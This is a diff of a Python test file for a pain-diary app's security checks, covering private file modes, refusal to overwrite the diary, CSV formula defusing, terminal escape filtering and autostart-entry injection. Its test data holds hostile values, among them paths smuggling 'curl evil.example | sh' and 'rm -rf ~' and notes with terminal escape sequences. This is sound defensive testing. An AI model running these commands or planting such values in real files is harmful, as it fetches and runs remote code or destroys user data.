@@ -21,6 +21,7 @@ import stat
 import subprocess
 import sys
 import time
+from datetime import UTC
 from pathlib import Path
 
 import pytest
@@ -48,11 +49,25 @@ ENV = cli_env(TZ="Europe/London")
 # Every character a terminal would obey that a note can hold: escape sequences (colour, window
 # title, cursor up), a bell, the C1 CSI, and a right-to-left override.
 HOSTILE_NOTE = "red \x1b[31mRED\x1b[0m \x1b]0;pwned\x07 up\x1b[1A bell\x07 csi\x9b2J rlo\u202eevil"
-TERMINAL_OBEYS = [chr(c) for c in [*range(0x00, 0x09), *range(0x0b, 0x20), *range(0x7f, 0xa0)]]
-TERMINAL_OBEYS += ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
-                   "\u2066", "\u2067", "\u2068", "\u2069"]
-FORMULAS = ["=HYPERLINK(\"http://x.example\",\"Click\")", "+1+2", "-2+3", "@SUM(A1:A2)",
-            "'quoted already"]
+TERMINAL_OBEYS = [chr(c) for c in [*range(0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]]
+TERMINAL_OBEYS += [
+    "\u202a",
+    "\u202b",
+    "\u202c",
+    "\u202d",
+    "\u202e",
+    "\u2066",
+    "\u2067",
+    "\u2068",
+    "\u2069",
+]
+FORMULAS = [
+    '=HYPERLINK("http://x.example","Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "'quoted already",
+]
 
 
 def ok(*args) -> str:
@@ -81,12 +96,28 @@ def loose_umask():
 
 
 def seed_plan(data: Path) -> None:
-    ok("plan", "add-procedure", "--data-dir", data, "--kind", "test-block", "--region",
-       "lumbar", "--side", "left", "--at", "2027-03-26T10:00", "--anaesthetic", "lidocaine",
-       "--zone", "Europe/London")
+    ok(
+        "plan",
+        "add-procedure",
+        "--data-dir",
+        data,
+        "--kind",
+        "test-block",
+        "--region",
+        "lumbar",
+        "--side",
+        "left",
+        "--at",
+        "2027-03-26T10:00",
+        "--anaesthetic",
+        "lidocaine",
+        "--zone",
+        "Europe/London",
+    )
 
 
 # --- modes ------------------------------------------------------------------------------------
+
 
 def test_every_file_in_the_data_folder_is_private_after_a_real_session(tmp_path, loose_umask):
     data, out = tmp_path / "data", tmp_path / "out"
@@ -98,10 +129,20 @@ def test_every_file_in_the_data_folder_is_private_after_a_real_session(tmp_path,
     try:
         seed_plan(data)
         ok("diary", "add", "--data-dir", data, "--score", "4")
-        written = [ok("report", "--data-dir", data, "--format", fmt, "--out", out).strip()
-                   for fmt in ("pdf", "csv", "fhir")]
-        ok("reminders", "export-ics", "--data-dir", data, "--audience", "patient", "--out",
-           out / "patient.ics")
+        written = [
+            ok("report", "--data-dir", data, "--format", fmt, "--out", out).strip()
+            for fmt in ("pdf", "csv", "fhir")
+        ]
+        ok(
+            "reminders",
+            "export-ics",
+            "--data-dir",
+            data,
+            "--audience",
+            "patient",
+            "--out",
+            out / "patient.ics",
+        )
         ok("diary", "list", "--data-dir", data)
         found = modes_under(data)
     finally:
@@ -111,26 +152,37 @@ def test_every_file_in_the_data_folder_is_private_after_a_real_session(tmp_path,
     folder_modes = dict.fromkeys(folders, "0o700")
     assert {name: oct(m) for name, m in found.items() if name in folders} == folder_modes
     assert {name: oct(m) for name, m in found.items() if name not in folders} == {
-        name: "0o600" for name in found if name not in folders}
+        name: "0o600" for name in found if name not in folders
+    }
     assert sorted(Path(p).suffix for p in written) == [".csv", ".json", ".pdf"]
     assert all(Path(p).parent == out for p in written)
     assert {p.name: oct(mode(p)) for p in out.iterdir()} == {
-        p.name: "0o600" for p in out.iterdir()}, "reports and calendar files are private too"
+        p.name: "0o600" for p in out.iterdir()
+    }, "reports and calendar files are private too"
     assert not [p for p in out.iterdir() if p.name.startswith(files.TEMP_PREFIX)]
 
 
-@pytest.mark.skipif(not os.environ.get("DISPLAY"),
-                    reason="needs a display (bash dev.sh test starts Xvfb)")
+@pytest.mark.skipif(
+    not os.environ.get("DISPLAY"), reason="needs a display (bash dev.sh test starts Xvfb)"
+)
 def test_the_apps_own_folder_is_private_though_kivy_makes_it_0755(tmp_path, loose_umask):
     """Started without --data-dir, the window uses Kivy's user data folder, which Kivy creates
     with the umask's 0755 before the app opens the diary there."""
-    env = cli_env(XDG_CONFIG_HOME=str(tmp_path / "config"), KIVY_HOME=str(tmp_path / "kivy"),
-                  KIVY_NO_CONSOLELOG="1")
+    env = cli_env(
+        XDG_CONFIG_HOME=str(tmp_path / "config"),
+        KIVY_HOME=str(tmp_path / "kivy"),
+        KIVY_NO_CONSOLELOG="1",
+    )
     data = tmp_path / "config" / "facetcompanion"
     data.parent.mkdir()  # Kivy makes only the last folder
-    app = subprocess.Popen([sys.executable, str(REPO_ROOT / "main.py")], cwd=REPO_ROOT, env=env,
-                           stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
-                           stderr=subprocess.DEVNULL)
+    app = subprocess.Popen(
+        [sys.executable, str(REPO_ROOT / "main.py")],
+        cwd=REPO_ROOT,
+        env=env,
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     try:
         deadline = time.monotonic() + 60
         while not (data / "facet.db-wal").exists() and time.monotonic() < deadline:
@@ -143,7 +195,8 @@ def test_the_apps_own_folder_is_private_though_kivy_makes_it_0755(tmp_path, loos
         app.wait(timeout=20)
     assert {"facet.db", "facet.db-wal", "facet.db-shm"} <= set(found)
     assert {name: oct(m) for name, m in found.items()} == {
-        name: "0o700" if (data / name).is_dir() else "0o600" for name in found}
+        name: "0o700" if (data / name).is_dir() else "0o600" for name in found
+    }
 
 
 def test_files_an_older_version_left_readable_are_made_private_at_open(tmp_path, loose_umask):
@@ -157,9 +210,9 @@ def test_files_an_older_version_left_readable_are_made_private_at_open(tmp_path,
     ok("diary", "add", "--data-dir", data, "--score", "3")
     try:
         assert mode(data) == 0o700
-        assert {name: oct(mode(data / name)) for name in ("facet.db", "facet.db-wal",
-                                                          "facet.db-shm")} == {
-            "facet.db": "0o600", "facet.db-wal": "0o600", "facet.db-shm": "0o600"}
+        assert {
+            name: oct(mode(data / name)) for name in ("facet.db", "facet.db-wal", "facet.db-shm")
+        } == {"facet.db": "0o600", "facet.db-wal": "0o600", "facet.db-shm": "0o600"}
     finally:
         db.close()
 
@@ -174,6 +227,7 @@ def test_a_read_only_diary_stays_read_only(tmp_path, loose_umask):
 
 # --- never over the diary, never over a file without --force --------------------------------
 
+
 @pytest.fixture
 def diary(tmp_path) -> Path:
     """A data folder with a diary, a plan, a backup and an entry to lose."""
@@ -181,8 +235,7 @@ def diary(tmp_path) -> Path:
     ok("diary", "add", "--data-dir", data, "--score", "7", "--note", "the one to keep")
     seed_plan(data)
     (data / "backups").mkdir(mode=0o700, exist_ok=True)  # the daily backup may be there
-    (data / "backups" / "facet-2026-12-01T000000Z.db").write_bytes(
-        (data / "facet.db").read_bytes())
+    (data / "backups" / "facet-2026-12-01T000000Z.db").write_bytes((data / "facet.db").read_bytes())
     return data
 
 
@@ -192,9 +245,15 @@ def test_the_diary_its_wal_shm_and_backups_are_never_replaced(diary, tmp_path):
     reader = sqlite3.connect(diary / "facet.db")  # keeps the WAL and SHM in place
     reader.execute("SELECT count(*) FROM entries").fetchone()
     try:
-        targets = [diary / "facet.db", diary / "facet.db-wal", diary / "facet.db-shm",
-                   diary / "backups" / "facet-2026-12-01T000000Z.db", diary,
-                   diary / "backups", diary / "new-report.pdf"]
+        targets = [
+            diary / "facet.db",
+            diary / "facet.db-wal",
+            diary / "facet.db-shm",
+            diary / "backups" / "facet-2026-12-01T000000Z.db",
+            diary,
+            diary / "backups",
+            diary / "new-report.pdf",
+        ]
         link = tmp_path / "innocent.ics"
         link.symlink_to(diary / "facet.db")
         backup = targets[3].read_bytes()
@@ -202,10 +261,11 @@ def test_the_diary_its_wal_shm_and_backups_are_never_replaced(diary, tmp_path):
         attempts = 0
         for target in [*targets, link]:
             for force in ([], ["--force"]):
-                for verb in (["report", "--format", "csv"],
-                             ["reminders", "export-ics", "--audience", "patient"]):
-                    result = run_cli(*verb, "--data-dir", diary, "--out", target, *force,
-                                     env=ENV)
+                for verb in (
+                    ["report", "--format", "csv"],
+                    ["reminders", "export-ics", "--audience", "patient"],
+                ):
+                    result = run_cli(*verb, "--data-dir", diary, "--out", target, *force, env=ENV)
                     error = assert_one_line_error(result)
                     if target.is_dir() and verb[0] == "reminders":  # --out is a file there
                         assert "is a directory" in error, error
@@ -224,18 +284,23 @@ def test_the_diary_its_wal_shm_and_backups_are_never_replaced(diary, tmp_path):
     assert "the one to keep" in ok("diary", "list", "--data-dir", diary)
 
 
-@pytest.mark.parametrize("verb", [["report", "--format", "pdf"],
-                                  ["reminders", "export-ics", "--audience", "patient"]],
-                         ids=["report", "export-ics"])
+@pytest.mark.parametrize(
+    "verb",
+    [["report", "--format", "pdf"], ["reminders", "export-ics", "--audience", "patient"]],
+    ids=["report", "export-ics"],
+)
 def test_an_existing_file_is_kept_unless_force_is_given(diary, tmp_path, verb):
     out = tmp_path / "for the clinic.pdf"
     out.write_text("last week's, already printed")
     error = assert_one_line_error(run_cli(*verb, "--data-dir", diary, "--out", out, env=ENV))
-    assert error == (f"Error: Not written: {shown(str(out))} already exists. Add --force to "
-                     "replace it, or choose another name.")  # a long path cut as typed ones are
+    assert error == (
+        f"Error: Not written: {shown(str(out))} already exists. Add --force to "
+        "replace it, or choose another name."
+    )  # a long path cut as typed ones are
     assert out.read_text() == "last week's, already printed"
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "for the clinic.pdf"], \
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "for the clinic.pdf"], (
         "no temporary file left behind"
+    )
 
     ok(*verb, "--data-dir", diary, "--out", out, "--force")
     assert out.read_bytes().startswith(b"%PDF" if verb[0] == "report" else b"BEGIN:VCALENDAR")
@@ -244,17 +309,21 @@ def test_an_existing_file_is_kept_unless_force_is_given(diary, tmp_path, verb):
 
 
 def test_the_apps_saves_keep_the_earlier_file_and_take_the_next_name(diary, tmp_path):
+    from datetime import datetime
+
     from app.services.report_writer import ReportFolderError, ReportWriter
-    from datetime import datetime, timezone
 
     folder = tmp_path / "Documents"
     folder.mkdir()
     backups = sorted(p.name for p in (diary / "backups").iterdir())
     writer = ReportWriter(diary)
-    now = datetime(2026, 12, 1, 15, 0, tzinfo=timezone.utc)
+    now = datetime(2026, 12, 1, 15, 0, tzinfo=UTC)
     names = [writer.write("pdf", folder, now=now, zone="UTC").name for _ in range(3)]
-    assert names == ["facet-report-2026-12-01.pdf", "facet-report-2026-12-01 (2).pdf",
-                     "facet-report-2026-12-01 (3).pdf"]
+    assert names == [
+        "facet-report-2026-12-01.pdf",
+        "facet-report-2026-12-01 (2).pdf",
+        "facet-report-2026-12-01 (3).pdf",
+    ]
     assert writer.folder_problem(diary) == files.DIARY_FOLDER
     with pytest.raises(ReportFolderError, match="folder where the app keeps your diary"):
         writer.write("csv", diary / "backups", now=now, zone="UTC")
@@ -281,13 +350,16 @@ def test_the_next_free_name_skips_files_and_links_already_there(tmp_path):
 
 def test_without_hard_links_a_file_is_still_never_replaced(tmp_path, monkeypatch):
     """A FAT memory stick has no hard links: the move falls back to a rename after a look."""
+
     def no_links(*_args):
         raise PermissionError(1, "Operation not permitted")
 
     monkeypatch.setattr(os, "link", no_links)
     (tmp_path / "cal.ics").write_text("earlier")
-    assert files.write_atomically(tmp_path / "cal.ics", b"new",
-                                  if_exists="new_name") == tmp_path / "cal (2).ics"
+    assert (
+        files.write_atomically(tmp_path / "cal.ics", b"new", if_exists="new_name")
+        == tmp_path / "cal (2).ics"
+    )
     with pytest.raises(FileExistsError):
         files.write_atomically(tmp_path / "cal.ics", b"newer", if_exists="refuse")
     assert (tmp_path / "cal.ics").read_text() == "earlier"
@@ -299,7 +371,8 @@ def test_a_failed_write_leaves_neither_file_nor_note(tmp_path):
     data.mkdir()
     with pytest.raises(RuntimeError), files.atomic_file(out / "r.pdf", data_dir=data) as file:
         assert [p.name for p in (data / files.PENDING_FOLDER).iterdir()] == [
-            f"{os.getpid()}-{file.temp.name[len(files.TEMP_PREFIX):]}"]
+            f"{os.getpid()}-{file.temp.name[len(files.TEMP_PREFIX) :]}"
+        ]
         file.temp.write_bytes(b"%PDF half")
         raise RuntimeError("the disk went away")
     assert list(out.iterdir()) == []
@@ -308,15 +381,17 @@ def test_a_failed_write_leaves_neither_file_nor_note(tmp_path):
 
 # --- CSV and terminal ------------------------------------------------------------------------
 
+
 def test_both_csvs_defuse_formulas_the_same_way(tmp_path):
     data = tmp_path / "data"
     for note in FORMULAS:
-        ok("diary", "add", "--data-dir", data, "--score", "5", "--note", note,
-           "--activity", note)
-    listed = list(csv.DictReader(io.StringIO(ok("diary", "list", "--data-dir", data,
-                                                "--format", "csv"))))
-    report = Path(ok("report", "--data-dir", data, "--format", "csv", "--out",
-                     tmp_path / "r.csv").strip())
+        ok("diary", "add", "--data-dir", data, "--score", "5", "--note", note, "--activity", note)
+    listed = list(
+        csv.DictReader(io.StringIO(ok("diary", "list", "--data-dir", data, "--format", "csv")))
+    )
+    report = Path(
+        ok("report", "--data-dir", data, "--format", "csv", "--out", tmp_path / "r.csv").strip()
+    )
     with open(report, encoding="utf-8-sig", newline="") as file:
         reported = [row for row in csv.DictReader(file) if row["record"] == "diary"]
     expected = ["'" + note for note in FORMULAS]
@@ -343,11 +418,14 @@ def test_the_csv_writer_defuses_every_start_owasp_lists():
 def test_no_control_character_reaches_the_terminal(tmp_path):
     data = tmp_path / "data"
     ok("diary", "add", "--data-dir", data, "--score", "5", "--note", HOSTILE_NOTE)
-    printed = {fmt: ok("diary", "list", "--data-dir", data, "--format", fmt)
-               for fmt in ("table", "csv", "json")}
+    printed = {
+        fmt: ok("diary", "list", "--data-dir", data, "--format", fmt)
+        for fmt in ("table", "csv", "json")
+    }
     for fmt, text in printed.items():
-        raw = sorted({f"U+{ord(ch):04X}" for ch in text if ch in TERMINAL_OBEYS
-                      and ch not in "\r\n"})
+        raw = sorted(
+            {f"U+{ord(ch):04X}" for ch in text if ch in TERMINAL_OBEYS and ch not in "\r\n"}
+        )
         assert raw == [], f"{fmt} printed {raw}"
         assert "\\x1b]0;pwned" in text or "\\u001b]0;pwned" in text, fmt
     assert "\\x9b2J" in printed["csv"] and "\\u202eevil" in printed["csv"]
@@ -361,17 +439,26 @@ def test_no_control_character_reaches_the_terminal(tmp_path):
 def test_a_typed_file_name_is_echoed_safely(diary, tmp_path):
     out = tmp_path / "report\x1b]0;pwned\x07\nError: fake.pdf"
     out.write_text("kept")
-    error = assert_one_line_error(run_cli("report", "--data-dir", diary, "--format", "pdf",
-                                          "--out", out, env=ENV))
+    error = assert_one_line_error(
+        run_cli("report", "--data-dir", diary, "--format", "pdf", "--out", out, env=ENV)
+    )
     assert "report\\x1b]0;pwned\\x07 Error: fake.pdf already exists" in error
-    written = ok("reminders", "export-ics", "--data-dir", diary, "--audience", "patient",
-                 "--out", tmp_path / "cal\x1b[2J.ics")
+    written = ok(
+        "reminders",
+        "export-ics",
+        "--data-dir",
+        diary,
+        "--audience",
+        "patient",
+        "--out",
+        tmp_path / "cal\x1b[2J.ics",
+    )
     assert written.startswith(f"wrote {tmp_path}/cal\\x1b[2J.ics: ")
     assert (tmp_path / "cal\x1b[2J.ics").is_file(), "the file has the name that was asked"
 
 
 def test_reminder_texts_are_printed_safely(tmp_path):
-    from datetime import datetime, timezone
+    from datetime import datetime
     from datetime import time as clock_time
 
     from app.domain.reminders import OwnReminder
@@ -380,9 +467,13 @@ def test_reminder_texts_are_printed_safely(tmp_path):
     data = tmp_path / "data"
     db = open_database(data)
     OwnReminderRepository(db).add(
-        OwnReminder("Stretch \x1b[2J\x1b]0;pwned\x07 now", clock_time(9, 0),
-                    starts_on=datetime.now(timezone.utc).date()),
-        now=datetime.now(timezone.utc))
+        OwnReminder(
+            "Stretch \x1b[2J\x1b]0;pwned\x07 now",
+            clock_time(9, 0),
+            starts_on=datetime.now(UTC).date(),
+        ),
+        now=datetime.now(UTC),
+    )
     db.close()
     for fmt in ("table", "json"):
         text = ok("reminders", "list", "--data-dir", data, "--format", fmt)
@@ -441,15 +532,24 @@ export_report(open_database(sys.argv[1]), "pdf", sys.argv[2],
 def test_a_report_killed_half_way_leaves_nothing_after_the_next_start(tmp_path):
     data, out = tmp_path / "data", tmp_path / "Documents"
     out.mkdir()
-    killed = subprocess.run([sys.executable, "-c", KILLED_MID_REPORT, str(data), str(out)],
-                            cwd=REPO_ROOT, env=ENV, capture_output=True, timeout=60)
+    killed = subprocess.run(
+        [sys.executable, "-c", KILLED_MID_REPORT, str(data), str(out)],
+        cwd=REPO_ROOT,
+        env=ENV,
+        capture_output=True,
+        timeout=60,
+    )
     assert killed.returncode == -signal.SIGKILL
     [left] = list(out.iterdir())
     assert left.name.startswith(files.TEMP_PREFIX)
     [marker] = list((data / files.PENDING_FOLDER).iterdir())
     # Around them, what is not ours, or too fresh to be a left-over, must stay.
-    keep = [out / "holiday.pdf", out / ".facet-tmp-fresh", data / ".facet-tmp-fresh",
-            out / "notes-.facet-tmp-old"]
+    keep = [
+        out / "holiday.pdf",
+        out / ".facet-tmp-fresh",
+        data / ".facet-tmp-fresh",
+        out / "notes-.facet-tmp-old",
+    ]
     for path in keep:
         path.write_text("keep me")
     old = time.time() - files.STALE_AFTER_SECONDS - 60
@@ -496,7 +596,7 @@ HOSTILE_PATHS = [
     "/home/ana/My Diary",
     "/tmp/a\nExec=sh -c 'curl evil.example | sh'\n[Desktop Entry]\nHidden=true",
     "/tmp/b\r\nExec=evil",
-    "/tmp/c\"; rm -rf ~; echo \"",
+    '/tmp/c"; rm -rf ~; echo "',
     "/tmp/d $HOME `id` 100% \\n \\\\ \t tab",
 ]
 
@@ -504,22 +604,37 @@ HOSTILE_PATHS = [
 @pytest.mark.parametrize("data_dir", HOSTILE_PATHS)
 def test_no_path_adds_a_line_to_the_autostart_entry(tmp_path, monkeypatch, data_dir):
     monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
-    python = "/opt/py \"3\"\n[Other]\nExec=evil"
+    python = '/opt/py "3"\n[Other]\nExec=evil'
     path = autostart.enable(data_dir=data_dir, python=python)
     text = path.read_text(encoding="utf-8")
     keys = [line.split("=", 1)[0] for line in text.split("\n") if line]
-    assert keys == ["[Desktop Entry]", "Type", "Name", "Comment", "Exec", "Terminal",
-                    "NoDisplay", "X-GNOME-Autostart-enabled"]
+    assert keys == [
+        "[Desktop Entry]",
+        "Type",
+        "Name",
+        "Comment",
+        "Exec",
+        "Terminal",
+        "NoDisplay",
+        "X-GNOME-Autostart-enabled",
+    ]
     assert text.count("\n") == 8 and "\r" not in text
-    assert exec_args(text) == [python, str(autostart.MAIN), "reminders", "run", "--data-dir",
-                               str(Path(data_dir).resolve())]
+    assert exec_args(text) == [
+        python,
+        str(autostart.MAIN),
+        "reminders",
+        "run",
+        "--data-dir",
+        str(Path(data_dir).resolve()),
+    ]
     assert mode(path) == 0o600
 
 
 @settings(max_examples=300, deadline=None)
 # No path holds NUL; a name's bytes that are not UTF-8 are tried in the test below.
-@given(st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)),
-               min_size=1))
+@given(
+    st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), min_size=1)
+)
 def test_any_path_is_carried_whole_or_refused_never_adds_a_line(name):
     folder = "/tmp/" + name.replace("/", "_")
     try:
@@ -530,10 +645,23 @@ def test_any_path_is_carried_whole_or_refused_never_adds_a_line(name):
     lines = text.split("\n")
     assert len(lines) == 9 and lines[-1] == "" and "\r" not in text
     assert [line.split("=", 1)[0] for line in lines[:-1]] == [
-        "[Desktop Entry]", "Type", "Name", "Comment", "Exec", "Terminal", "NoDisplay",
-        "X-GNOME-Autostart-enabled"]
-    assert exec_args(text) == [folder + "/python", str(autostart.MAIN), "reminders", "run",
-                               "--data-dir", str(Path(folder).resolve())]
+        "[Desktop Entry]",
+        "Type",
+        "Name",
+        "Comment",
+        "Exec",
+        "Terminal",
+        "NoDisplay",
+        "X-GNOME-Autostart-enabled",
+    ]
+    assert exec_args(text) == [
+        folder + "/python",
+        str(autostart.MAIN),
+        "reminders",
+        "run",
+        "--data-dir",
+        str(Path(folder).resolve()),
+    ]
 
 
 def test_a_path_the_entry_cannot_carry_is_refused_and_nothing_written(tmp_path, monkeypatch):
